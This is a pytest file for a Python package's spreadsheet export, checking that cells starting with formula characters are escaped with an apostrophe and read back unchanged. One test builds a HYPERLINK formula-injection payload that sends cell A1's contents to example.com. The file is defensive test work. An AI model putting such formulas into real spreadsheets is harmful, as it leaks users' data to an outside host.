"""The table of label issues is opened in spreadsheets."""

from itertools import product
from pathlib import Path

import pytest

from viewfinder_components.formats.label_issues import (
    LABEL_ISSUES,
    LabelIssue,
    read_cell,
    write_cell,
    write_label_issues,
)


@pytest.mark.parametrize("sign", "=+-@\t\r")
def test_a_name_is_no_formula(sign: str) -> None:
    name = f'{sign}HYPERLINK("http://example.com/"&A1,"apple")'
    assert write_cell(name).startswith("'")
    assert read_cell(write_cell(name)) == name


@pytest.mark.parametrize("name", ["apple", "'quoted'", "", "a=b", "äpfel"])
def test_other_names_stay_as_they_are(name: str) -> None:
    assert write_cell(name) == name
    assert read_cell(name) == name


def test_no_cell_of_the_table_is_a_formula(tmp_path: Path) -> None:
    issue = LabelIssue("/a.jpg", "0" * 64, "train", "=1+1", "@sum", "doubtful", 0.6, "")
    write_label_issues(tmp_path, [issue])
    text = (tmp_path / LABEL_ISSUES).read_text(encoding="utf-8")
    assert "'=1+1,'@sum" in text


@pytest.mark.parametrize("length", range(6))
def test_every_text_is_read_as_it_was_written(length: int) -> None:
    for signs in product("'-=@\ta", repeat=length):
        text = "".join(signs)
        assert read_cell(write_cell(text)) == text
        assert not write_cell(text).startswith(tuple("=+-@\t\r"))
